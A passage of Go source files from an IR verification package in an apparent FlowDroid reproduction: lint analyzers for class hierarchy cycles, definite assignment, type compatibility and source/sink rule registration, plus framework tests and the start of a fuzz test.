	Doc:  "missing supers/interfaces, kind confusion, inheritance cycles",
	Run:  runHierarchy,
}

func runHierarchy(pass *Pass) {
	h := pass.Prog
	for _, c := range h.Classes() {
		if c.Super != "" {
			switch sc := h.Class(c.Super); {
			case sc == nil:
				if c.Super == "java.lang.Object" {
					// The implicit root the parser injects; programs without
					// the framework stubs simply don't declare it.
					break
				}
				pass.ReportClass("hierarchy.super", Warning, c,
					"class %s extends unknown class %s", c.Name, c.Super)
			case sc.Interface && !c.Interface:
				pass.ReportClass("hierarchy.kind", Warning, c,
					"class %s extends interface %s", c.Name, c.Super)
			}
		}
		for _, in := range c.Interfaces {
			switch ic := h.Class(in); {
			case ic == nil:
				pass.ReportClass("hierarchy.iface", Warning, c,
					"class %s implements unknown interface %s", c.Name, in)
			case !ic.Interface:
				pass.ReportClass("hierarchy.kind", Warning, c,
					"class %s implements non-interface %s", c.Name, in)
			}
		}
	}
	for _, cyc := range hierarchyCycles(h) {
		c := h.Class(cyc[0])
		pass.ReportClass("hierarchy.cycle", Error, c,
			"inheritance cycle: %s -> %s", strings.Join(cyc, " -> "), cyc[0])
	}
}

// hierarchyCycles finds cycles in the extends/implements graph. Each
// cycle is reported once, rotated so its lexicographically smallest
// member comes first (deterministic output regardless of DFS order).
func hierarchyCycles(h ir.Hierarchy) [][]string {
	const (
		unvisited = 0
		inStack   = 1
		done      = 2
	)
	state := make(map[string]int)
	var stack []string
	var cycles [][]string
	var dfs func(name string)
	dfs = func(name string) {
		state[name] = inStack
		stack = append(stack, name)
		if c := h.Class(name); c != nil {
			var outs []string
			if c.Super != "" {
				outs = append(outs, c.Super)
			}
			outs = append(outs, c.Interfaces...)
			for _, o := range outs {
				if h.Class(o) == nil {
					continue
				}
				switch state[o] {
				case unvisited:
					dfs(o)
				case inStack:
					for k := len(stack) - 1; k >= 0; k-- {
						if stack[k] == o {
							cycles = append(cycles, rotateMin(append([]string(nil), stack[k:]...)))
							break
						}
					}
				}
			}
		}
		stack = stack[:len(stack)-1]
		state[name] = done
	}
	for _, c := range h.Classes() {
		if state[c.Name] == unvisited {
			dfs(c.Name)
		}
	}
	sort.Slice(cycles, func(i, j int) bool { return cycles[i][0] < cycles[j][0] })
	return cycles
}

// rotateMin rotates the cycle so its smallest element is first.
func rotateMin(cyc []string) []string {
	min := 0
	for i, n := range cyc {
		if n < cyc[min] {
			min = i
		}
	}
	return append(cyc[min:], cyc[:min]...)
}
