package irlint_test

// Framework-level tests: registry, selection, diagnostic encoding,
// result ordering and panic containment. Per-analyzer behaviour is in
// analyzers_test.go. External test package: the helpers parse programs
// with irtext, which irlint must not import.

import (
	"encoding/json"
	"testing"

	"flowdroid/internal/irlint"
)

func TestSeverityJSONRoundTrip(t *testing.T) {
	for _, s := range []irlint.Severity{irlint.Error, irlint.Warning} {
		b, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		var got irlint.Severity
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatal(err)
		}
		if got != s {
			t.Errorf("roundtrip %v -> %s -> %v", s, b, got)
		}
	}
	var s irlint.Severity
	if err := json.Unmarshal([]byte(`"fatal"`), &s); err == nil {
		t.Error("bad severity decoded without error")
	}
}

func TestDiagnosticRendering(t *testing.T) {
	d := irlint.Diagnostic{Code: "defuse.undef", Severity: irlint.Error, File: "a.ir", Line: 3, Message: "boom"}
	if got, want := d.String(), "a.ir:3: error: boom [defuse.undef]"; got != want {
		t.Errorf("String() = %q, want %q", got, want)
	}
	if got, want := (irlint.Diagnostic{}).Pos(), "<unknown>:0"; got != want {
		t.Errorf("zero Pos() = %q, want %q", got, want)
	}
	b, err := json.Marshal(d)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"code", "severity", "file", "line", "message"} {
		if _, ok := m[key]; !ok {
			t.Errorf("JSON encoding lacks %q: %s", key, b)
		}
	}
	if _, ok := m["method"]; ok {
		t.Errorf("empty method should be omitted: %s", b)
	}
}

func TestRegistryListsShippedAnalyzers(t *testing.T) {
	want := []string{
		"branch", "defuse", "duplicates", "hierarchy", "invoke",
		"missingreturn", "reflection", "registrations", "resolve",
		"typecheck", "unreachable",
	}
	have := make(map[string]bool)
	prev := ""
	for _, a := range irlint.Analyzers() {
		if a.Name <= prev {
			t.Errorf("Analyzers() not sorted: %q after %q", a.Name, prev)
		}
		prev = a.Name
		have[a.Name] = true
		if a.Doc == "" {
			t.Errorf("analyzer %s has no doc", a.Name)
		}
	}
	for _, n := range want {
		if !have[n] {
			t.Errorf("analyzer %s not registered", n)
		}
		if irlint.Lookup(n) == nil {
			t.Errorf("Lookup(%q) = nil", n)
		}
	}
}

func TestRegisterDuplicatePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("duplicate Register did not panic")
		}
	}()
	irlint.Register(&irlint.Analyzer{Name: "defuse"})
}

func TestSelect(t *testing.T) {
	all, err := irlint.Select("", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(all) < 10 {
		t.Fatalf("empty enable selected %d analyzers, want all (>=10)", len(all))
	}
	two, err := irlint.Select("defuse, typecheck", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(two) != 2 || two[0].Name != "defuse" || two[1].Name != "typecheck" {
		t.Errorf("explicit enable picked %v", two)
	}
	rest, err := irlint.Select("", "defuse,typecheck")
	if err != nil {
		t.Fatal(err)
	}
	if len(rest) != len(all)-2 {
		t.Errorf("disable left %d analyzers, want %d", len(rest), len(all)-2)
	}
	for _, a := range rest {
		if a.Name == "defuse" || a.Name == "typecheck" {
			t.Errorf("disabled analyzer %s still selected", a.Name)
		}
	}
	if _, err := irlint.Select("nosuch", ""); err == nil {
		t.Error("unknown enable name accepted")
	}
	if _, err := irlint.Select("", "nosuch"); err == nil {
		t.Error("unknown disable name accepted")
	}
}

func TestRunContainsAnalyzerPanics(t *testing.T) {
	boom := &irlint.Analyzer{Name: "boom", Doc: "test", Run: func(*irlint.Pass) { panic("kaboom") }}
	res := irlint.Run(parse(t, `class A { method m(): void { return } }`),
		irlint.Config{Analyzers: []*irlint.Analyzer{boom}})
	hits := res.ByCode("irlint.panic")
	if len(hits) != 1 {
		t.Fatalf("panic not converted to diagnostic: %v", res.Diagnostics)
	}
	if hits[0].Severity != irlint.Error {
		t.Error("irlint.panic must be Error severity")
	}
}

func TestRunSortsAndDeduplicates(t *testing.T) {
	noisy := &irlint.Analyzer{Name: "noisy", Doc: "test", Run: func(p *irlint.Pass) {
		p.Report(irlint.Diagnostic{Code: "t.b", File: "z.ir", Line: 9, Message: "late"})
		p.Report(irlint.Diagnostic{Code: "t.a", File: "a.ir", Line: 2, Message: "dup"})
		p.Report(irlint.Diagnostic{Code: "t.a", File: "a.ir", Line: 2, Message: "dup"})
		p.Report(irlint.Diagnostic{Code: "t.a", File: "a.ir", Line: 1, Message: "first"})
	}}
	res := irlint.Run(parse(t, `class A { method m(): void { return } }`),
		irlint.Config{Analyzers: []*irlint.Analyzer{noisy}})
	if len(res.Diagnostics) != 3 {
		t.Fatalf("got %d diagnostics, want 3 after dedup: %v", len(res.Diagnostics), res.Diagnostics)
	}
	if res.Diagnostics[0].Line != 1 || res.Diagnostics[2].File != "z.ir" {
		t.Errorf("diagnostics not sorted: %v", res.Diagnostics)
	}
}

func TestResultHelpers(t *testing.T) {
	res := &irlint.Result{Diagnostics: []irlint.Diagnostic{
		{Code: "defuse.undef", Severity: irlint.Error},
		{Code: "defuse.maybe", Severity: irlint.Warning},
		{Code: "defuser.x", Severity: irlint.Warning},
	}}
	if res.Errors() != 1 || res.Warnings() != 2 || !res.HasErrors() {
		t.Errorf("counts: %d errors, %d warnings", res.Errors(), res.Warnings())
	}
	if got := res.ByCode("defuse"); len(got) != 2 {
		t.Errorf("ByCode prefix matched %d, want 2 (must not match defuser.x)", len(got))
	}
	if got := res.ByCode("defuse.undef"); len(got) != 1 {
		t.Errorf("ByCode exact matched %d, want 1", len(got))
	}
}
