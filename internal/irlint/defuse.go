package irlint

import "flowdroid/internal/ir"

func init() { Register(defuseAnalyzer) }

// defuseAnalyzer is the CFG-aware definite-assignment check. It replaces
// the old textual scan of the parser (which only required a def to
// appear earlier in the source, regardless of control flow):
//
//   - a use with no assignment on ANY path from entry (and no "local"
//     declaration, parameter or receiver of that name) is an Error — the
//     local can never hold a value there;
//   - a use assigned on some but not all paths is a Warning — legal in
//     this IR (declarations are optional), but usually a bug.
//
// Declared locals (explicit "local x: T", parameters, this) count as
// initialized at entry, preserving the acceptance set of the old scan.
var defuseAnalyzer = &Analyzer{
	Name: "defuse",
	Doc:  "definite assignment: locals must be assigned or declared before use on every path",
	Run:  runDefuse,
}

func runDefuse(pass *Pass) {
	eachBodyMethod(pass.Prog, func(c *ir.Class, m *ir.Method) {
		body := m.Body()
		locals := m.Locals()
		idx := make(map[*ir.Local]int, len(locals))
		for i, l := range locals {
			idx[l] = i
		}
		entry := make([]bool, len(locals))
		for i, l := range locals {
			entry[i] = l.Declared
		}
		reach := reachable(m)
		may := assignedSets(body, reach, entry, idx, true)
		must := assignedSets(body, reach, entry, idx, false)
		for i, s := range body {
			if !reach[i] {
				continue // the unreachable analyzer owns dead code
			}
			seen := make(map[*ir.Local]bool)
			stmtUses(s, func(l *ir.Local) {
				if seen[l] {
					return
				}
				seen[l] = true
				j, ok := idx[l]
				if !ok || entry[j] {
					// Foreign locals are the duplicates analyzer's finding;
					// declared locals are initialized by definition.
					return
				}
				switch {
				case !may[i][j]:
					pass.ReportStmt("defuse.undef", Error, s,
						"use of undefined local %q (locals must be assigned or declared before use)", l.Name)
				case !must[i][j]:
					pass.ReportStmt("defuse.maybe", Warning, s,
						"local %q may be unassigned on some path to this use", l.Name)
				}
			})
		}
	})
}

// assignedSets computes, per statement, the set of locals assigned before
// it executes: the may-assigned sets (union over paths) or the
// must-assigned sets (intersection). Uses at a statement are checked
// against its IN set, so "x = x + 1" sees the state before its own def.
func assignedSets(body []ir.Stmt, reach, entry []bool, idx map[*ir.Local]int, may bool) [][]bool {
	n := len(entry)
	in := make([][]bool, len(body))
	for i := range in {
		in[i] = make([]bool, n)
		switch {
		case i == 0:
			copy(in[i], entry)
		case !may:
			// Top of the intersection lattice: everything assigned, to be
			// whittled down by predecessors.
			for j := range in[i] {
				in[i][j] = true
			}
		}
	}
	out := make([]bool, n)
	for changed := true; changed; {
		changed = false
		for i := range body {
			if !reach[i] {
				continue
			}
			copy(out, in[i])
			if l := stmtDef(body[i]); l != nil {
				if j, ok := idx[l]; ok {
					out[j] = true
				}
			}
			for _, t := range succIdx(body, i) {
				if t < 0 || t >= len(body) {
					continue // the branch analyzer reports these
				}
				for j := 0; j < n; j++ {
					if may && out[j] && !in[t][j] {
						in[t][j] = true
						changed = true
					}
					if !may && !out[j] && in[t][j] {
						in[t][j] = false
						changed = true
					}
				}
			}
		}
	}
	return in
}
