package irlint

import "flowdroid/internal/ir"

func init() { Register(typecheckAnalyzer) }

// typecheckAnalyzer checks assignments, call arguments and returns for
// type compatibility against the hierarchy. Every finding is a Warning:
// the front end's type inference is best-effort (locals may stay
// Unknown), so an apparent mismatch can be an inference gap rather than
// a program defect, and the taint analyses themselves are untyped.
var typecheckAnalyzer = &Analyzer{
	Name: "typecheck",
	Doc:  "assignment, argument and return type compatibility against the hierarchy",
	Run:  runTypecheck,
}

func runTypecheck(pass *Pass) {
	h := pass.Prog
	eachBodyMethod(h, func(c *ir.Class, m *ir.Method) {
		for _, s := range m.Body() {
			switch s := s.(type) {
			case *ir.AssignStmt:
				dst := storageType(s.LHS)
				src := staticType(h, s.RHS)
				if !assignable(h, dst, src) {
					pass.ReportStmt("typecheck.assign", Warning, s,
						"type mismatch: %s value assigned to %s", src, dst)
				}
			case *ir.ReturnStmt:
				if s.Value == nil {
					break // missing return values are the missingreturn analyzer's finding
				}
				if m.Return.Kind == ir.VoidType {
					pass.ReportStmt("typecheck.return", Warning, s,
						"void method %s returns a value", m)
				} else if t := staticType(h, s.Value); !assignable(h, m.Return, t) {
					pass.ReportStmt("typecheck.return", Warning, s,
						"return type mismatch: %s returned from method declared %s", t, m.Return)
				}
			}
			if call := ir.CallOf(s); call != nil {
				checkArgs(pass, s, call)
			}
		}
	})
}

// checkArgs verifies actual argument types against the resolved callee's
// parameter types. Unresolvable callees are the resolve analyzer's
// finding, not a type error.
func checkArgs(pass *Pass, s ir.Stmt, call *ir.InvokeExpr) {
	h := pass.Prog
	_, callee := calleeOf(h, call)
	if callee == nil {
		return
	}
	n := len(call.Args)
	if len(callee.Params) < n {
		n = len(callee.Params) // arity mismatches are the invoke analyzer's finding
	}
	for i := 0; i < n; i++ {
		at := staticType(h, call.Args[i])
		if !assignable(h, callee.Params[i].Type, at) {
			pass.ReportStmt("typecheck.arg", Warning, s,
				"argument %d of call to %s: %s value passed for parameter of type %s",
				i, callee, at, callee.Params[i].Type)
		}
	}
}

// storageType is the declared type of an lvalue.
func storageType(v ir.Value) ir.Type {
	switch v := v.(type) {
	case *ir.Local:
		return v.Type
	case *ir.FieldRef:
		if v.Field != nil {
			return v.Field.Type
		}
	case *ir.StaticFieldRef:
		if v.Field != nil {
			return v.Field.Type
		}
	case *ir.ArrayRef:
		if v.Base != nil && v.Base.Type.IsArray() {
			return *v.Base.Type.Elem
		}
	}
	return ir.Unknown
}

// staticType is the best-effort static type of a value; Unknown when the
// front end cannot tell.
func staticType(h ir.Hierarchy, v ir.Value) ir.Type {
	switch v := v.(type) {
	case *ir.Local:
		return v.Type
	case *ir.Const:
		switch v.Kind {
		case ir.IntConst, ir.ResConst:
			return ir.Int
		case ir.StringConst:
			return ir.Ref("java.lang.String")
		case ir.NullConst:
			return ir.Null
		}
	case *ir.New:
		return v.Type
	case *ir.NewArray:
		return ir.ArrayOf(v.Elem)
	case *ir.Cast:
		return v.To
	case *ir.FieldRef:
		if v.Field != nil {
			return v.Field.Type
		}
	case *ir.StaticFieldRef:
		if v.Field != nil {
			return v.Field.Type
		}
	case *ir.ArrayRef:
		if v.Base != nil && v.Base.Type.IsArray() {
			return *v.Base.Type.Elem
		}
	case *ir.InvokeExpr:
		if _, callee := calleeOf(h, v); callee != nil {
			return callee.Return
		}
	case *ir.Binop:
		// Operators are untyped in this IR (string concatenation and
		// arithmetic share the same node); stay Unknown.
	}
	return ir.Unknown
}

// assignable reports whether a src-typed value may be stored in a
// dst-typed location. The check is deliberately lenient: Unknown is
// compatible with everything, all primitives interconvert, and reference
// types are compatible when related in either direction (the IR has no
// explicit upcasts). Only provably unrelated types fail.
func assignable(h ir.Hierarchy, dst, src ir.Type) bool {
	if dst.IsUnknown() || src.IsUnknown() {
		return true
	}
	if dst.Kind == ir.VoidType || src.Kind == ir.VoidType {
		return false
	}
	if src.Kind == ir.NullType {
		return dst.IsRef() || dst.IsArray()
	}
	switch {
	case dst.IsPrim():
		return src.IsPrim()
	case dst.IsRef():
		if src.IsArray() || src.IsPrim() {
			// Arrays and autoboxed primitives are Objects.
			return dst.Name == "java.lang.Object"
		}
		if !src.IsRef() {
			return false
		}
		return relatedClasses(h, src.Name, dst.Name)
	case dst.IsArray():
		if !src.IsArray() {
			return false
		}
		return assignable(h, *dst.Elem, *src.Elem)
	}
	return true
}

// relatedClasses reports whether two class names are subtype-related in
// either direction. A name the hierarchy does not know is treated as
// compatible (the resolve analyzer reports the unknown class itself).
func relatedClasses(h ir.Hierarchy, a, b string) bool {
	if a == b || a == "java.lang.Object" || b == "java.lang.Object" {
		return true
	}
	if h.Class(a) == nil || h.Class(b) == nil {
		return true
	}
	return h.SubtypeOf(a, b) || h.SubtypeOf(b, a)
}

// calleeOf resolves an invocation to its static receiver class and
// target method; class is "" when the receiver's type is unknown, and
// the method is nil when resolution fails.
func calleeOf(h ir.Hierarchy, e *ir.InvokeExpr) (string, *ir.Method) {
	cls := e.Ref.Class
	if e.Kind == ir.VirtualInvoke && e.Base != nil && e.Base.Type.IsRef() {
		cls = e.Base.Type.Name
	}
	if cls == "" {
		return "", nil
	}
	return cls, h.ResolveMethod(cls, e.Ref.Name, e.Ref.NArgs)
}
