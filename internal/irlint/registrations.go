package irlint

import "flowdroid/internal/ir"

func init() { Register(registrationsAnalyzer) }

// RulesFile is the pseudo-path rule-level diagnostics are positioned at:
// source/sink rules come from configuration text, not from a class file.
const RulesFile = "<rules>"

// registrationsAnalyzer checks the configured registrations against the
// program: source/sink rules whose class or method resolves to nothing
// (a rule that can never match silently disables a detection — the
// classic "promise-keeping" failure), and layout-declared android:onClick
// handlers with no matching one-argument method on any class (the
// callback would be registered but never modeled).
var registrationsAnalyzer = &Analyzer{
	Name: "registrations",
	Doc:  "source/sink rules and layout callbacks naming unknown classes or methods",
	Run:  runRegistrations,
}

func runRegistrations(pass *Pass) {
	h := pass.Prog
	rule := func(kind, cls, name string, nargs int, render string) {
		switch {
		case h.Class(cls) == nil:
			pass.Report(Diagnostic{
				Code: "registrations." + kind, Severity: Warning, File: RulesFile,
				Message: kind + " rule [" + render + "] references unknown class " + cls,
			})
		case h.ResolveMethod(cls, name, nargs) == nil:
			pass.Report(Diagnostic{
				Code: "registrations." + kind, Severity: Warning, File: RulesFile,
				Message: kind + " rule [" + render + "] names a method no class in the hierarchy declares",
			})
		}
	}
	for _, s := range pass.Config.Sources {
		rule("source", s.Class, s.Name, s.NArgs, s.String())
	}
	for _, s := range pass.Config.Sinks {
		rule("sink", s.Class, s.Name, s.NArgs, s.String())
	}
	reportUnmatchedQueriedSinks(pass)
	for file, handlers := range pass.Config.ClickHandlers {
		for _, handler := range handlers {
			if !hasHandler(h, handler) {
				pass.Report(Diagnostic{
					Code: "registrations.onclick", Severity: Warning, File: file,
					Message: "layout registers android:onClick handler \"" + handler +
						"\" but no class declares a matching one-argument method",
				})
			}
		}
	}
}

// reportUnmatchedQueriedSinks warns on queried sink rules that match no
// call statement anywhere in the program. The matching mirrors the
// sourcesink manager's: name, arity, and class compatibility in either
// subtype direction (call through a subclass, or rule on the implementing
// class called through the interface).
func reportUnmatchedQueriedSinks(pass *Pass) {
	queried := pass.Config.QueriedSinks
	if len(queried) == 0 {
		return
	}
	h := pass.Prog
	matched := make([]bool, len(queried))
	remaining := len(queried)
	for _, c := range h.Classes() {
		for _, m := range c.Methods() {
			for _, s := range m.Body() {
				call := ir.CallOf(s)
				if call == nil {
					continue
				}
				cls := call.Ref.Class
				if call.Kind == ir.VirtualInvoke && call.Base != nil && call.Base.Type.IsRef() {
					cls = call.Base.Type.Name
				}
				for i, snk := range queried {
					if matched[i] || snk.Name != call.Ref.Name || snk.NArgs != call.Ref.NArgs {
						continue
					}
					if cls == snk.Class ||
						(cls != "" && snk.Class != "" &&
							(h.SubtypeOf(cls, snk.Class) || h.SubtypeOf(snk.Class, cls))) {
						matched[i] = true
						remaining--
					}
				}
				if remaining == 0 {
					return
				}
			}
		}
	}
	for i, snk := range queried {
		if !matched[i] {
			pass.Report(Diagnostic{
				Code: "registrations.sink.unmatched", Severity: Warning, File: RulesFile,
				Message: "queried sink rule [" + snk.String() + "] matches no call statement in the program",
			})
		}
	}
}

// hasHandler reports whether any class declares a one-argument method
// with the given name — the android:onClick(View) shape.
func hasHandler(h ir.Hierarchy, name string) bool {
	for _, c := range h.Classes() {
		if c.Method(name, 1) != nil {
			return true
		}
	}
	return false
}
