// Package irlint is the IR verifier: a go/analysis-style lint framework
// that validates a linked program before any solver trusts it. FlowDroid
// inherits this contract from Soot's Jimple validators and the JVM
// verifier — method bodies the solvers see are known well-formed; the
// textual front-end of this reproduction accepts anything that lexes, so
// the verification has to happen here, once, with positioned diagnostics,
// instead of surfacing as a confusing panic deep inside pta or taint.
//
// An Analyzer is a named check over an ir.Hierarchy. Run executes a
// selected set of analyzers and returns their diagnostics, each carrying
// a stable code, an Error or Warning severity, and a file:line position.
// Error diagnostics mean the program violates an invariant the solvers
// rely on (the pipeline refuses to analyze, core.InvalidProgram);
// Warnings flag suspicious-but-tolerated constructs and flow into the
// result for reporting.
package irlint

import (
	"fmt"
	"sort"
	"strings"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/sourcesink"
)

// Severity classifies a diagnostic.
type Severity int

const (
	// Error marks a violated solver invariant: the program must not be
	// analyzed.
	Error Severity = iota
	// Warning marks a suspicious construct the analyses tolerate
	// (typically by treating the offending entity as opaque).
	Warning
)

// String renders the severity in lowercase, matching the JSON encoding.
func (s Severity) String() string {
	if s == Error {
		return "error"
	}
	return "warning"
}

// MarshalJSON encodes the severity as "error" or "warning".
func (s Severity) MarshalJSON() ([]byte, error) {
	return []byte(`"` + s.String() + `"`), nil
}

// UnmarshalJSON decodes "error" or "warning".
func (s *Severity) UnmarshalJSON(b []byte) error {
	switch string(b) {
	case `"error"`:
		*s = Error
	case `"warning"`:
		*s = Warning
	default:
		return fmt.Errorf("irlint: bad severity %s", b)
	}
	return nil
}

// Diagnostic is one positioned finding. Code is stable across releases
// ("<analyzer>.<kind>", e.g. "defuse.undef"); tools key on it, never on
// the message text.
type Diagnostic struct {
	Code     string   `json:"code"`
	Severity Severity `json:"severity"`
	// File and Line position the finding in the source the class was
	// parsed from; File may be a pseudo-path such as "<rules>" for
	// findings about configuration rather than code, and Line is 0 when
	// no line is known.
	File string `json:"file"`
	Line int    `json:"line"`
	// Method names the enclosing method ("Class.name/nargs"), empty for
	// class- or configuration-level findings.
	Method  string `json:"method,omitempty"`
	Message string `json:"message"`
}

// Pos renders the "file:line" position.
func (d Diagnostic) Pos() string {
	f := d.File
	if f == "" {
		f = "<unknown>"
	}
	return fmt.Sprintf("%s:%d", f, d.Line)
}

// String renders the diagnostic the way compilers do:
// "file:line: severity: message [code]".
func (d Diagnostic) String() string {
	return fmt.Sprintf("%s: %s: %s [%s]", d.Pos(), d.Severity, d.Message, d.Code)
}

// Analyzer is one registered check. Run reports findings through the
// pass; it must not retain the pass after returning.
type Analyzer struct {
	// Name identifies the analyzer in enable/disable sets and prefixes
	// its diagnostic codes.
	Name string
	// Doc is a one-line description shown by cmd/irlint.
	Doc string
	// Run executes the check over pass.Prog.
	Run func(pass *Pass)
}

// registry holds every analyzer registered by this package's init
// functions (and any test-registered extras).
var registry = make(map[string]*Analyzer)

// Register adds an analyzer to the registry. It panics on a duplicate
// name; registration happens at init time, so a duplicate is a
// programming error.
func Register(a *Analyzer) {
	if _, dup := registry[a.Name]; dup {
		panic("irlint: duplicate analyzer " + a.Name)
	}
	registry[a.Name] = a
}

// Analyzers returns every registered analyzer in name order.
func Analyzers() []*Analyzer {
	out := make([]*Analyzer, 0, len(registry))
	for _, a := range registry {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// Lookup returns the named analyzer, or nil.
func Lookup(name string) *Analyzer { return registry[name] }

// Select resolves comma-separated enable/disable sets into an analyzer
// list: an empty enable set means "all registered", and disable is
// subtracted afterwards. Unknown names are errors — a typo silently
// disabling nothing is exactly the kind of misconfiguration this package
// exists to catch.
func Select(enable, disable string) ([]*Analyzer, error) {
	names := func(csv string) ([]string, error) {
		var out []string
		for _, n := range strings.Split(csv, ",") {
			n = strings.TrimSpace(n)
			if n == "" {
				continue
			}
			if Lookup(n) == nil {
				return nil, fmt.Errorf("irlint: unknown analyzer %q", n)
			}
			out = append(out, n)
		}
		return out, nil
	}
	on, err := names(enable)
	if err != nil {
		return nil, err
	}
	off, err := names(disable)
	if err != nil {
		return nil, err
	}
	drop := make(map[string]bool, len(off))
	for _, n := range off {
		drop[n] = true
	}
	var picked []*Analyzer
	if len(on) == 0 {
		picked = Analyzers()
	} else {
		for _, n := range on {
			picked = append(picked, Lookup(n))
		}
	}
	out := picked[:0]
	for _, a := range picked {
		if !drop[a.Name] {
			out = append(out, a)
		}
	}
	return out, nil
}

// Config parameterizes a Run.
type Config struct {
	// Analyzers is the set to run; nil means every registered analyzer.
	Analyzers []*Analyzer
	// Sources and Sinks are the source/sink rules the registrations
	// analyzer checks against the program; empty slices skip the check.
	Sources []sourcesink.Source
	Sinks   []sourcesink.Sink
	// QueriedSinks are the sink rules a demand-driven query selected. The
	// registrations analyzer warns on any of them matching no call
	// statement program-wide — such a query silently analyzes nothing for
	// that rule. Empty skips the check (whole-program runs tolerate
	// unmatched rules; a rule catalogue always has spares).
	QueriedSinks []sourcesink.Sink
	// ClickHandlers maps a layout file path (e.g. "res/layout/main.xml")
	// to the handler method names its XML registers via android:onClick.
	ClickHandlers map[string][]string
}

// Pass carries one analyzer's execution context.
type Pass struct {
	Analyzer *Analyzer
	Prog     ir.Hierarchy
	Config   Config

	cfgOf  func(*ir.Method) *cfg.MethodCFG
	report func(Diagnostic)
}

// CFG returns the (cached) control-flow graph of m. When the program
// model carries a shared CFG cache (scene.Scene does), the analyzers
// reuse it, so verification never rebuilds a CFG the solvers will build
// anyway.
func (p *Pass) CFG(m *ir.Method) *cfg.MethodCFG { return p.cfgOf(m) }

// Report emits one diagnostic.
func (p *Pass) Report(d Diagnostic) { p.report(d) }

// ReportClass emits a class-positioned diagnostic.
func (p *Pass) ReportClass(code string, sev Severity, c *ir.Class, format string, args ...any) {
	p.report(Diagnostic{
		Code: code, Severity: sev,
		File: c.File, Line: c.Line,
		Message: fmt.Sprintf(format, args...),
	})
}

// ReportMethod emits a method-positioned diagnostic: the method's class
// file, at the first body statement's line when there is one.
func (p *Pass) ReportMethod(code string, sev Severity, m *ir.Method, format string, args ...any) {
	file, line := methodPos(m)
	p.report(Diagnostic{
		Code: code, Severity: sev,
		File: file, Line: line, Method: m.String(),
		Message: fmt.Sprintf(format, args...),
	})
}

// ReportStmt emits a statement-positioned diagnostic.
func (p *Pass) ReportStmt(code string, sev Severity, s ir.Stmt, format string, args ...any) {
	file, line := "", s.Line()
	m := s.Method()
	method := ""
	if m != nil {
		method = m.String()
		if m.Class != nil {
			file = m.Class.File
		}
		if line == 0 {
			// Synthetic statements (e.g. the implicit trailing return) have
			// no source line; fall back to the method position.
			_, line = methodPos(m)
		}
	}
	p.report(Diagnostic{
		Code: code, Severity: sev,
		File: file, Line: line, Method: method,
		Message: fmt.Sprintf(format, args...),
	})
}

func methodPos(m *ir.Method) (string, int) {
	file, line := "", 0
	if m.Class != nil {
		file, line = m.Class.File, m.Class.Line
	}
	for _, s := range m.Body() {
		if l := s.Line(); l > 0 {
			line = l
			break
		}
	}
	return file, line
}

// Result is the outcome of a Run: the diagnostics of every analyzer,
// sorted by (file, line, code, message) and deduplicated.
type Result struct {
	Diagnostics []Diagnostic `json:"diagnostics"`
}

// Errors counts the Error-severity diagnostics.
func (r *Result) Errors() int { return r.count(Error) }

// Warnings counts the Warning-severity diagnostics.
func (r *Result) Warnings() int { return r.count(Warning) }

func (r *Result) count(sev Severity) int {
	n := 0
	for _, d := range r.Diagnostics {
		if d.Severity == sev {
			n++
		}
	}
	return n
}

// HasErrors reports whether any Error-severity diagnostic was found.
func (r *Result) HasErrors() bool { return r.Errors() > 0 }

// ByCode returns the diagnostics whose code has the given value or
// prefix followed by a dot (so "defuse" matches "defuse.undef").
func (r *Result) ByCode(code string) []Diagnostic {
	var out []Diagnostic
	for _, d := range r.Diagnostics {
		if d.Code == code || strings.HasPrefix(d.Code, code+".") {
			out = append(out, d)
		}
	}
	return out
}

// Run executes the configured analyzers over a linked program model and
// returns their findings. A panicking analyzer never escapes: the panic
// is converted into an Error diagnostic with code "irlint.panic", so a
// verification step can always complete and report.
func Run(h ir.Hierarchy, conf Config) *Result {
	analyzers := conf.Analyzers
	if analyzers == nil {
		analyzers = Analyzers()
	}
	cfgOf := cfg.NewCache().CFGOf
	if cp, ok := h.(cfg.CacheProvider); ok {
		cfgOf = cp.CFGs().CFGOf
	}
	var diags []Diagnostic
	for _, a := range analyzers {
		pass := &Pass{
			Analyzer: a,
			Prog:     h,
			Config:   conf,
			cfgOf:    cfgOf,
			report:   func(d Diagnostic) { diags = append(diags, d) },
		}
		runAnalyzer(pass, &diags)
	}
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.File != b.File {
			return a.File < b.File
		}
		if a.Line != b.Line {
			return a.Line < b.Line
		}
		if a.Code != b.Code {
			return a.Code < b.Code
		}
		return a.Message < b.Message
	})
	// Deduplicate identical findings (two analyzers, or one analyzer via
	// two paths, may land on the same defect).
	out := diags[:0]
	for i, d := range diags {
		if i > 0 && d == diags[i-1] {
			continue
		}
		out = append(out, d)
	}
	return &Result{Diagnostics: out}
}

func runAnalyzer(pass *Pass, diags *[]Diagnostic) {
	defer func() {
		if r := recover(); r != nil {
			*diags = append(*diags, Diagnostic{
				Code:     "irlint.panic",
				Severity: Error,
				File:     "<internal>",
				Message:  fmt.Sprintf("analyzer %s panicked: %v", pass.Analyzer.Name, r),
			})
		}
	}()
	pass.Analyzer.Run(pass)
}
