package irlint_test

// FuzzParseAndVerify drives arbitrary text through the full
// parse → link → verify path. The contract under fuzzing is narrow
// but absolute: invalid text may be rejected with an error, valid
// text may produce any diagnostics, but nothing panics — neither the
// parser/linker (a panic here fails the fuzz run outright) nor any
// analyzer (a contained analyzer panic surfaces as an irlint.panic
// diagnostic, which the target rejects). Seeds cover well-formed
// programs and every textual defect-injector snippet, so each
// analyzer's interesting paths are in the initial corpus.

import (
	"testing"

	"flowdroid/internal/appgen"
	"flowdroid/internal/irlint"
	"flowdroid/internal/irtext"
)

func FuzzParseAndVerify(f *testing.F) {
	f.Add("class A { method m(): void { return } }")
	f.Add("class A extends B {\n  field f: int\n  method m(p: int): int {\n    x = p + 1\n    if x goto done\n    x = this.f\n  done:\n    return x\n  }\n}\nclass B {\n}")
